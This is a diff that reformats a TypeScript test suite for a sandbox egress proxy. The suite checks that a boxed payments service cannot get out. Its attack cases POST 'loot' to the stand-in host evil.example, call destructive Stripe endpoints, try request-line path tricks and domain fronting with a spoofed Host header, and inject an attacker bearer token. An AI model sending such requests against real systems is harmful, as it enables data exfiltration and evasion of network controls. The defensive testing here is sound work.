@@ -35,10 +35,14 @@ export const doorAttacks: readonly Attack[] = [
     stoppedBy: 'door',
     expected: ['door.unlisted', 'ENOTFOUND', 'ECONNRESET', 'EPROTO', 'ERR_SSL_TLSV1_UNRECOGNIZED_NAME'],
     run: async (world) =>
-      attemptInside(await world.inside('payments', { do: 'http', url: 'https://evil.example/', method: 'POST', body: 'loot' })),
+      attemptInside(
+        await world.inside('payments', { do: 'http', url: 'https://evil.example/', method: 'POST', body: 'loot' }),
+      ),
     controls: 'the same code outside a box reaches an HTTPS listener of ours',
     control: async (world) =>
-      controlInside(await world.outside({ do: 'http', url: `${world.canaries.httpsUrl}/`, method: 'POST', body: 'loot' })),
+      controlInside(
+        await world.outside({ do: 'http', url: `${world.canaries.httpsUrl}/`, method: 'POST', body: 'loot' }),
+      ),
   },
   {
     name: 'doors.other-host-plain',
@@ -46,10 +50,14 @@ export const doorAttacks: readonly Attack[] = [
     stoppedBy: 'door',
     expected: ['door.unlisted', 'ENOTFOUND'],
     run: async (world) =>
-      attemptInside(await world.inside('payments', { do: 'http', url: 'http://evil.example/', method: 'POST', body: 'loot' })),
+      attemptInside(
+        await world.inside('payments', { do: 'http', url: 'http://evil.example/', method: 'POST', body: 'loot' }),
+      ),
     controls: 'the same code outside a box reaches an HTTP listener of ours',
     control: async (world) =>
-      controlInside(await world.outside({ do: 'http', url: `${world.canaries.httpUrl}/`, method: 'POST', body: 'loot' })),
+      controlInside(
+        await world.outside({ do: 'http', url: `${world.canaries.httpUrl}/`, method: 'POST', body: 'loot' }),
+      ),
   },
   {
     name: 'doors.other-path',
@@ -67,7 +75,11 @@ export const doorAttacks: readonly Attack[] = [
     expected: refused,
     run: async (world) =>
       attemptInside(
-        await world.inside('payments', { do: 'http', url: 'https://api.stripe.com/v1/payment_intents', method: 'DELETE' }),
+        await world.inside('payments', {
+          do: 'http',
+          url: 'https://api.stripe.com/v1/payment_intents',
+          method: 'DELETE',
+        }),
       ),
     ...throughTheDoor,
   },
@@ -78,7 +90,12 @@ export const doorAttacks: readonly Attack[] = [
     expected: refused,
     run: async (world) =>
       attemptInside(
-        await world.inside('payments', { do: 'http', url: 'https://api.stripe.com/v1/refunds', method: 'POST', body: 'a=1' }),
+        await world.inside('payments', {
+          do: 'http',
+          url: 'https://api.stripe.com/v1/refunds',
+          method: 'POST',
+          body: 'a=1',
+        }),
       ),
     ...throughTheDoor,
   },
@@ -96,25 +113,24 @@ export const doorAttacks: readonly Attack[] = [
     ['double-slash', 'POST //v1/payment_intents HTTP/1.1'],
     ['letter-case', 'POST /V1/PAYMENT_INTENTS HTTP/1.1'],
     ['absolute-form', 'POST https://evil.example/v1/payment_intents HTTP/1.1'],
-  ].map(
-    ([name = '', line = '']): Attack => ({
-      name: `doors.path-${name}`,
-      tries: `a request line that reads two ways: ${line.replace(' HTTP/1.1', '')}`,
-      stoppedBy: 'door',
-      expected: [...refused, 'door.path', 'door.malformed_url', 'door.host_mismatch'],
-      run: async (world) => attemptInside(await world.inside('payments', spelt(line, ['content-length: 0']))),
-      controls: 'the door’s own path, by the same means',
-      control: async (world) =>
-        controlInside(await world.inside('payments', spelt('POST /v1/payment_intents HTTP/1.1', ['content-length: 0']))),
-    }),
-  ),
+  ].map(([name = '', line = '']): Attack => ({
+    name: `doors.path-${name}`,
+    tries: `a request line that reads two ways: ${line.replace(' HTTP/1.1', '')}`,
+    stoppedBy: 'door',
+    expected: [...refused, 'door.path', 'door.malformed_url', 'door.host_mismatch'],
+    run: async (world) => attemptInside(await world.inside('payments', spelt(line, ['content-length: 0']))),
+    controls: 'the door’s own path, by the same means',
+    control: async (world) =>
+      controlInside(await world.inside('payments', spelt('POST /v1/payment_intents HTTP/1.1', ['content-length: 0']))),
+  })),
   {
     name: 'doors.host-behind-name',
     tries: 'the door’s name in TLS, and another host in the request inside (domain fronting)',
     stoppedBy: 'door',
     expected: ['door.host_mismatch', 'door.unlisted'],
     run: async (world) => {
-      const text = 'POST /v1/payment_intents HTTP/1.1\r\nhost: evil.example\r\ncontent-length: 0\r\nconnection: close\r\n\r\n'
+      const text =
+        'POST /v1/payment_intents HTTP/1.1\r\nhost: evil.example\r\ncontent-length: 0\r\nconnection: close\r\n\r\n'
       const fronted: Instruction = { do: 'raw', host: '192.0.2.1', port: 443, serverName: 'api.stripe.com', text }
       return attemptInside(await world.inside('payments', fronted))
     },
@@ -139,7 +155,13 @@ export const doorAttacks: readonly Attack[] = [
     control: async (world) => {
       const before = world.upstream.seen.length
       const headers = { authorization: 'Bearer sk_attacker' }
-      await world.outside({ do: 'http', url: `${world.upstream.url}/v1/payment_intents`, method: 'POST', headers, body: 'a=1' })
+      await world.outside({
+        do: 'http',
+        url: `${world.upstream.url}/v1/payment_intents`,
+        method: 'POST',
+        headers,
+        body: 'a=1',
+      })
       const arrived = world.upstream.seen.slice(before).map((call) => call.headers['authorization'])
       return { succeeded: arrived.includes('Bearer sk_attacker'), evidence: `arrived with ${String(arrived[0])}` }
     },
